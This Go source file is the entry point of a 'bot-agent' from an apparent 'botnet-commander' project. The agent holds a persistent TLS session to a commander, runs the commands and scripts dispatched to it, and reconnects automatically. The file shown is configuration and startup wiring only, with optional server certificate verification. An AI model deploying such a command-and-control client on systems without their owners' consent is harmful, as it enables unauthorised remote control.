package main

import (
	"context"
	"errors"
	"fmt"
	"os"
	"os/signal"
	"strconv"
	"syscall"
	"time"

	"github.com/spf13/cobra"
	"go.uber.org/zap"

	"github.com/rpcyber/botnet-commander/internal/agent"
	"github.com/rpcyber/botnet-commander/internal/pki"
)

var (
	version = "dev"
	commit  = "none"
	date    = "unknown"
)

const exitConfig = 5

type config struct {
	serverAddr   string
	caFile       string
	identityPath string
	recvTimeout  time.Duration
	idleTimeout  time.Duration
	helloFreq    time.Duration
	maxReconn    int
	connBuffer   int
	logLevel     string
}

func main() {
	if err := newRootCmd().Execute(); err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(exitConfig)
	}
}

func newRootCmd() *cobra.Command {
	cfg := &config{}

	root := &cobra.Command{
		Use:   "bot-agent",
		Short: "Bot-agent — remote executor reporting to a commander",
		Long: `Bot-agent keeps a persistent TLS session open to its commander, runs
the commands and scripts dispatched over it, and reports results back
with correlation identifiers. It reconnects with exponential backoff
whenever the session is lost.`,
		SilenceUsage: true,
		RunE: func(cmd *cobra.Command, args []string) error {
			return run(cmd.Context(), cfg)
		},
	}

	root.AddCommand(newVersionCmd())

	root.PersistentFlags().StringVar(&cfg.serverAddr, "server-addr", envOrDefault("BOT_AGENT_SERVER_ADDR", "commander:1984"), "Commander endpoint, host:port")
	root.PersistentFlags().StringVar(&cfg.caFile, "ca-file", envOrDefault("BOT_AGENT_CA_FILE", ""), "Commander CA certificate; empty disables server verification")
	root.PersistentFlags().StringVar(&cfg.identityPath, "identity-file", envOrDefault("BOT_AGENT_IDENTITY_FILE", agent.DefaultIdentityPath()), "Persistent agent identifier file")
	root.PersistentFlags().DurationVar(&cfg.recvTimeout, "recv-timeout", envDurationOrDefault("BOT_AGENT_RECV_TIMEOUT", 30*time.Second), "Per-read deadline on the commander session")
	root.PersistentFlags().DurationVar(&cfg.idleTimeout, "idle-timeout", envDurationOrDefault("BOT_AGENT_IDLE_TIMEOUT", 60*time.Second), "Silence span after which a keepalive is sent")
	root.PersistentFlags().DurationVar(&cfg.helloFreq, "hello-freq", envDurationOrDefault("BOT_AGENT_HELLO_FREQ", 10*time.Second), "Pause after each keepalive")
	root.PersistentFlags().IntVar(&cfg.maxReconn, "max-reconn", envIntOrDefault("BOT_AGENT_MAX_RECONN", 6), "Reconnect backoff exponent cap")
	root.PersistentFlags().IntVar(&cfg.connBuffer, "conn-buffer", envIntOrDefault("BOT_AGENT_CONN_BUFFER", 4096), "Read buffer size in bytes")
	root.PersistentFlags().StringVar(&cfg.logLevel, "log-level", envOrDefault("BOT_AGENT_LOG_LEVEL", "info"), "Log level (debug, info, warn, error)")

	return root
}

func newVersionCmd() *cobra.Command {
	return &cobra.Command{
		Use:   "version",
		Short: "Print version information",
		Run: func(cmd *cobra.Command, args []string) {
			fmt.Printf("bot-agent %s (commit: %s, built: %s)\n", version, commit, date)
		},
	}
}

func run(ctx context.Context, cfg *config) error {
	logger, err := buildLogger(cfg.logLevel)
	if err != nil {
		return fmt.Errorf("failed to build logger: %w", err)
	}
	defer logger.Sync() //nolint:errcheck

	tlsCfg, err := pki.AgentTLSConfig(cfg.caFile)
	if err != nil {
		return err
	}
	if cfg.caFile == "" {
		logger.Warn("no CA configured, commander certificate will not be verified")
	}

	mgr, err := agent.NewManager(agent.Config{
		ServerAddr:   cfg.serverAddr,
		TLS:          tlsCfg,
		IdentityPath: cfg.identityPath,
		RecvTimeout:  cfg.recvTimeout,
		IdleTimeout:  cfg.idleTimeout,
		HelloFreq:    cfg.helloFreq,
		MaxReconn:    cfg.maxReconn,
		BufferSize:   cfg.connBuffer,
	}, logger)
	if err != nil {
		return err
	}

	logger.Info("starting bot-agent",
		zap.String("version", version),
		zap.String("server", cfg.serverAddr),
	)

	ctx, cancel := signal.NotifyContext(ctx, os.Interrupt, syscall.SIGTERM)
	defer cancel()

	if err := mgr.Run(ctx); err != nil && !errors.Is(err, context.Canceled) {
		return err
	}
	logger.Info("bot-agent stopped")
	return nil
}

func buildLogger(level string) (*zap.Logger, error) {
	var cfg zap.Config

	switch level {
	case "debug":
		cfg = zap.NewDevelopmentConfig()
	default:
		cfg = zap.NewProductionConfig()
	}

	switch level {
	case "debug":
		cfg.Level = zap.NewAtomicLevelAt(zap.DebugLevel)
	case "info":
		cfg.Level = zap.NewAtomicLevelAt(zap.InfoLevel)
	case "warn":
		cfg.Level = zap.NewAtomicLevelAt(zap.WarnLevel)
	case "error":
		cfg.Level = zap.NewAtomicLevelAt(zap.ErrorLevel)
	default:
		cfg.Level = zap.NewAtomicLevelAt(zap.InfoLevel)
	}

	return cfg.Build()
}

func envOrDefault(key, defaultVal string) string {
	if v := os.Getenv(key); v != "" {
		return v
	}
	return defaultVal
}

func envDurationOrDefault(key string, defaultVal time.Duration) time.Duration {
	if v := os.Getenv(key); v != "" {
		if d, err := time.ParseDuration(v); err == nil {
			return d
		}
	}
	return defaultVal
}

func envIntOrDefault(key string, defaultVal int) int {
	if v := os.Getenv(key); v != "" {
		if n, err := strconv.Atoi(v); err == nil {
			return n
		}
	}
	return defaultVal
}
